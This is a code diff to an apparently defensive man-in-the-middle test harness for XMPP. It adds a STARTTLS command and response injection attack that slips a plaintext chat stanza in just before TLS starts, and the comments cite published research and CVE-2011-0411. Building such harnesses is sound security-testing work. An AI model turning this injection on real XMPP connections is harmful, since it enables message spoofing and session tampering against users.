@@ -11,7 +11,7 @@ use super::context::Conn;
 use crate::attack::Attack;
 use crate::event::{Dir, Event, summarize};
 use crate::records::Records;
-use crate::xmpp::{Piece, RawReason, Unit};
+use crate::xmpp::{Piece, RawReason, Unit, starts_tls};
 
 /// Counts the TLS records going past, and flips `corrupt-tls`' bit.
 pub(crate) fn follow_records(c: &Conn, dir: Dir, records: &mut Records, bytes: &mut [u8]) {
@@ -63,6 +63,9 @@ pub(crate) fn opaque(c: &Conn, dir: Dir, at: u64, reason: &RawReason) {
 pub(crate) fn inspect(c: &Conn, dir: Dir, piece: Piece, out: &mut Vec<u8>) {
     match piece.unit {
         Unit::Header(h) => {
+            if dir == Dir::ClientToServer && h.to.is_some() {
+                c.facts().domain.clone_from(&h.to);
+            }
             c.shared.report.emit(Event::Stream {
                 conn: c.id,
                 dir,
@@ -92,9 +95,58 @@ pub(crate) fn inspect(c: &Conn, dir: Dir, piece: Piece, out: &mut Vec<u8>) {
                 Some(new) => out.extend_from_slice(new.to_xml().as_bytes()),
                 None => out.extend_from_slice(&piece.bytes),
             }
+            if c.shared.attacks.contains(&Attack::InjectStarttls) && starts_tls(&el) {
+                inject(c, dir, out);
+            }
         }
         Unit::Close | Unit::Raw => out.extend_from_slice(&piece.bytes),
     }
+}
+
+/// The stanza `inject-starttls` slips in after the last plaintext element
+/// of a direction. It would show as a message from the server (toward the
+/// client) or be delivered to the sender itself (toward the server): a
+/// side that acted on it after TLS started would make it visible.
+pub const INJECTED_BODY: &str = "INJECTED BEFORE TLS";
+
+/// Appends a plaintext stanza right after `<starttls/>` (toward the
+/// server: command injection) or `<proceed/>` (toward the client:
+/// response injection), in the same write, so that it arrives in the same
+/// read as the element before TLS starts (the NO STARTTLS attacks,
+/// Poddebniak et al., USENIX Security 2021; CVE-2011-0411).
+fn inject(c: &Conn, dir: Dir, out: &mut Vec<u8>) {
+    let stanza = match dir {
+        Dir::ClientToServer => format!(
+            "<message type='chat' to='{}'><body>{INJECTED_BODY}</body></message>",
+            c.facts()
+                .domain
+                .clone()
+                .unwrap_or_else(|| "localhost".into())
+        ),
+        Dir::ServerToClient => format!(
+            "<message type='chat' from='admin@localhost'><body>{INJECTED_BODY}</body></message>"
+        ),
+    };
+    out.extend_from_slice(stanza.as_bytes());
+    {
+        let mut f = c.facts();
+        match dir {
+            Dir::ClientToServer => f.injected.0 = true,
+            Dir::ServerToClient => f.injected.1 = true,
+        }
+    }
+    c.report_attack(
+        Attack::InjectStarttls,
+        match dir {
+            Dir::ClientToServer => {
+                "slipped a plaintext <message/> in after the client's <starttls/> (command injection)"
+            }
+            Dir::ServerToClient => {
+                "slipped a plaintext <message/> in after the server's <proceed/> (response injection)"
+            }
+        }
+        .into(),
+    );
 }
 
 /// What the client sends: the secrets the attacker is after.
